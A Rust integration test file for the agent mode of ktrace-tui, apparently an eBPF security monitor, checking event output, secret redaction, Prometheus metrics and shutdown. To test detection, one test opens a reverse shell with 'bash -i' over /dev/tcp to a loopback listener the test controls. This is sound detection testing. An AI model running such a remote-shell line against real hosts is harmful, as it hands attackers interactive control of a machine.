//! `ktrace-tui agent`: what its page says of it, and the whole of it against the real kernel.
#![allow(clippy::unwrap_used, reason = "tests")]

mod common;

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::privileged;
use ktrace_tui::feed::FAMILIES;
use serde_json::Value;

const PAGE: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/AGENT.md"));
const LATE: Duration = Duration::from_secs(30);

#[test]
fn the_page_names_every_metric() {
    let rows: Vec<String> = FAMILIES
        .iter()
        .map(|(name, counter, labels, what)| {
            let labels: Vec<_> =
                labels.split(", ").filter(|it| !it.is_empty()).map(|label| format!("`{label}`")).collect();
            let kind = if *counter { "counter" } else { "gauge" };
            format!("| `{name}` | {kind} | {} | {what} |", labels.join(", "))
        })
        .collect();
    let rows = rows.join("\n");
    assert!(PAGE.contains(&rows), "docs/AGENT.md should have:\n{rows}");
}

#[test]
fn without_a_place_to_go_it_is_wrong_usage() {
    let output = Command::new(env!("CARGO_BIN_EXE_ktrace-tui")).arg("agent").output().unwrap();
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!((output.status.code(), said.lines().count()), (Some(2), 1), "{said}");
    assert!(said.contains("--json"), "{said}");
}

/// An agent that is stopped when the test ends, however it does.
struct Agent {
    child: Child,
    said: BufReader<std::process::ChildStderr>,
}

impl Agent {
    fn start(arguments: &[&str]) -> Agent {
        let mut command = Command::new(env!("CARGO_BIN_EXE_ktrace-tui"));
        command.args(["agent", "--no-runtimes"]).args(arguments).stdin(Stdio::null());
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let said = BufReader::new(child.stderr.take().unwrap());
        Agent { child, said }
    }

    /// The next line that has `what` in it.
    fn says(&mut self, what: &str) -> String {
        let mut heard = String::new();
        loop {
            let mut line = String::new();
            assert!(self.said.read_line(&mut line).unwrap() > 0, "`{what}` is not said; but: {heard}");
            if line.contains(what) {
                return line.trim_end().to_owned();
            }
            heard.push_str(&line);
        }
    }

    /// Ends it as an init system does; gives what it said, and how long that took.
    fn stop(mut self) -> (String, Duration) {
        let began = Instant::now();
        let pid = self.child.id().to_string();
        assert!(Command::new("kill").args(["-TERM", &pid]).status().unwrap().success());
        let mut said = String::new();
        self.said.read_to_string(&mut said).unwrap();
        let status = self.child.wait().unwrap();
        assert!(status.success(), "it ends well: {status}: {said}");
        (said, began.elapsed())
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn page(address: &str) -> String {
    let mut stream = TcpStream::connect(address).unwrap();
    write!(stream, "GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").unwrap();
    let mut text = String::new();
    stream.read_to_string(&mut text).unwrap();
    text
}

/// What a page says, as somebody else's reader understands it.
struct Scraped(prometheus_parse::Scrape);

impl Scraped {
    fn from(address: &str) -> Scraped {
        let page = page(address);
        let (head, body) = page.split_once("\r\n\r\n").unwrap();
        assert!(head.to_lowercase().contains("content-type: text/plain; version=0.0.4"), "{head}");
        Scraped(prometheus_parse::Scrape::parse(body.lines().map(|line| Ok(line.to_owned()))).unwrap())
    }

    /// The samples of a family: labels, whether it counts, and the value.
    fn of(&self, family: &str) -> impl Iterator<Item = (&prometheus_parse::Labels, bool, f64)> {
        let samples = self.0.samples.iter().filter(move |sample| sample.metric == family);
        samples.map(|sample| match sample.value {
            prometheus_parse::Value::Counter(value) => (&sample.labels, true, value),
            prometheus_parse::Value::Gauge(value) => (&sample.labels, false, value),
            ref other => panic!("{other:?}"),
        })
    }

    fn value(&self, family: &str, labels: &[(&str, &str)]) -> f64 {
        let right = |of: &prometheus_parse::Labels| labels.iter().all(|(name, text)| of.get(name) == Some(*text));
        let found: Vec<_> = self.of(family).filter(|(of, _, _)| right(of)).map(|(_, _, value)| value).collect();
        assert_eq!(found.len(), 1, "{family} {labels:?}");
        found[0]
    }
}

fn lines(path: &std::path::Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn what_happens_arrives_everywhere_without_secrets() {
    if !privileged("a kernel with BTF and BPF ring buffers") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (json, ocsf) = (folder.path().join("out.jsonl"), folder.path().join("out.ocsf"));
    let (json_name, ocsf_name) = (json.to_str().unwrap(), ocsf.to_str().unwrap());
    let files = ["--json", json_name, "--ocsf", ocsf_name];
    let others = ["--metrics", "0", "--events", "kind = exec or kind = exit"];
    let mut agent = Agent::start(&[files, others].concat());
    let metrics = agent.says("metrics: http://");
    let address = metrics.trim_start_matches("metrics: http://").trim_end_matches("/metrics").to_owned();
    assert!(address.starts_with("127.0.0.1:"), "{address}");
    agent.says("ready");
    let mut child = Command::new("/bin/sh").args(["-c", "exit 7", "x", "--password", "hunter2x"]).spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    let began = Instant::now();
    let there = |value: &Value| value["kind"] == "exit" && value["process"]["pid"] == pid;
    while !lines(&json).iter().any(there) {
        assert!(began.elapsed() < LATE, "the exit does not arrive");
        std::thread::sleep(Duration::from_millis(50));
    }
    let page = page(&address);
    assert!(page.contains("\nktrace_ready 1\n") && page.contains("ktrace_feed_sent_total{feed=\"ocsf\""), "{page}");
    let (said, _) = agent.stop();
    assert!(said.contains(" events, "), "{said}");
    let told = lines(&json);
    let own: Vec<_> = told.iter().filter(|line| line["process"]["pid"] == pid).collect();
    let kinds: Vec<_> = own.iter().map(|line| line["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["exec", "exit"], "and nothing that was not asked for");
    let argv = own[0]["process"]["argv"].as_array().unwrap();
    assert_eq!((argv.len(), &argv[4]), (6, &"--password".into()));
    assert!(argv[5].as_str().unwrap().starts_with("secret-"), "{argv:?}");
    let numbers: Vec<_> = told.iter().map(|line| line["seq"].as_u64().unwrap()).collect();
    assert_eq!(numbers, (1..=told.len() as u64).collect::<Vec<_>>());
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    assert!(told.iter().all(|line| line["boot"] == boot.trim()));
    let launched = lines(&ocsf).into_iter().filter(|line| line["process"]["pid"] == pid);
    let types: Vec<_> = launched.map(|line| (line["type_uid"].as_u64().unwrap(), line["exit_code"].as_u64())).collect();
    assert_eq!(types, [(100_701, None), (100_702, Some(7))]);
}

#[test]
fn a_scrape_says_what_was_found_what_waits_where_and_what_it_costs() {
    if !privileged("a kernel with BTF and BPF ring buffers") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let spool = folder.path().join("spool");
    let nobody = || TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let (bus, collector) = (format!("nats://{}", nobody()), format!("http://{}", nobody()));
    let places = ["--nats", &bus, "--spool", spool.to_str().unwrap(), "--otlp", &collector, "--flush", "0s"];
    let rules = folder.path().join("own.toml");
    std::fs::write(&rules, "[[rule]]\nid = 'own'\ncolour = 'red'\n").unwrap();
    let own = ["--rules", rules.to_str().unwrap(), "--metrics", "0"];
    let mut agent = Agent::start(&[&places[..], &own].concat());
    let metrics = agent.says("metrics: http://");
    let address = metrics.trim_start_matches("metrics: http://").trim_end_matches("/metrics").to_owned();
    agent.says("ready");
    let shells = [("class", "reverse_shell"), ("severity", "critical")];
    let first = Scraped::from(&address);
    // A shell on a connection, to this test.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0");
    let mut shell = Command::new("bash").args(["-c", &script]).spawn().unwrap();
    let (peer, _) = listener.accept().unwrap();
    let began = Instant::now();
    let last = loop {
        let scraped = Scraped::from(&address);
        let found = scraped.value("ktrace_findings_total", &shells) > first.value("ktrace_findings_total", &shells);
        let waits = scraped.value("ktrace_feed_queue_lines", &[("feed", "otlp")]) >= 1.0
            || scraped.value("ktrace_feed_retries_total", &[("feed", "otlp")]) >= 1.0;
        if found && waits && scraped.value("ktrace_feed_spool_lines", &[("feed", "nats")]) >= 1.0 {
            break scraped;
        }
        assert!(began.elapsed() < LATE, "{:?}", scraped.0.samples);
        std::thread::sleep(Duration::from_millis(100));
    };
    drop(peer);
    shell.wait().unwrap();
    for (family, counter, labels, _) in FAMILIES {
        let labels: Vec<_> = labels.split(", ").filter(|label| !label.is_empty()).collect();
        assert!(last.0.docs.contains_key(*family), "{family}");
        for (of, counts, _) in last.of(family) {
            assert_eq!(counts, *counter, "{family}");
            assert!(of.len() == labels.len() && labels.iter().all(|label| of.get(label).is_some()), "{family}: {of:?}");
        }
        for (of, _, before) in first.of(family).filter(|_| *counter) {
            let same: Vec<_> = of.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
            assert!(last.value(family, &same) >= before, "{family} {of:?} went back");
        }
    }
    let told = FAMILIES.iter().filter(|(family, ..)| last.of(family).next().is_some()).count();
    assert_eq!(told, FAMILIES.len(), "each has a value");
    assert_eq!(last.value("ktrace_feed_up", &[("feed", "nats")]), 0.0, "what waits on disk did not arrive");
    assert_eq!(last.value("ktrace_feed_up", &[("feed", "otlp")]), 0.0);
    assert_eq!(last.value("ktrace_status_ok", &[("topic", "source")]), 1.0);
    assert_eq!(last.value("ktrace_status_ok", &[("topic", "nats")]), 0.0);
    assert!(last.value("ktrace_feed_spool_bytes", &[("feed", "nats")]) > 100.0);
    assert!(last.value("ktrace_processes", &[]) >= 2.0 && last.value("ktrace_incidents_total", &[]) >= 1.0);
    let broken = [("file", rules.to_str().unwrap()), ("line", "3"), ("column", "1")];
    assert_eq!(last.value("ktrace_own_rules_broken", &broken), 1.0);
    assert_eq!(last.value("ktrace_status_ok", &[("topic", "rules")]), 0.0);
    assert_eq!(last.value("ktrace_own_rules", &[("kind", "own")]), 0.0);
    let status = std::fs::read_to_string(format!("/proc/{}/status", agent.child.id())).unwrap();
    let own = status.lines().find_map(|line| line.strip_prefix("VmRSS:")?.trim().strip_suffix(" kB")).unwrap();
    let (own, said) = (own.parse::<f64>().unwrap() * 1024.0, last.value("process_resident_memory_bytes", &[]));
    assert!((own / said - 1.0).abs() < 0.3, "{own} by the kernel, {said} by itself");
    agent.stop();
}

#[test]
fn a_collector_that_is_gone_does_not_hold_up_the_end() {
    if !privileged("a kernel with BTF and BPF ring buffers") {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    let mut agent = Agent::start(&["--otlp", &url, "--flush", "500ms"]);
    agent.says("ready");
    agent.says("otlp: degraded: ");
    let (said, took) = agent.stop();
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert!(said.contains("otlp: not sent: "), "{said}");
}

#[test]
fn a_reader_that_goes_ends_it_well() {
    if !privileged("a kernel with BTF and BPF ring buffers") {
        return;
    }
    let mut agent = Agent::start(&["--json", "-", "--events", "all"]);
    agent.says("ready");
    drop(agent.child.stdout.take());
    let began = Instant::now();
    while agent.child.try_wait().unwrap().is_none() {
        assert!(began.elapsed() < LATE, "it goes on for nobody");
        Command::new("/bin/true").status().unwrap();
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(agent.child.wait().unwrap().code(), Some(0));
}
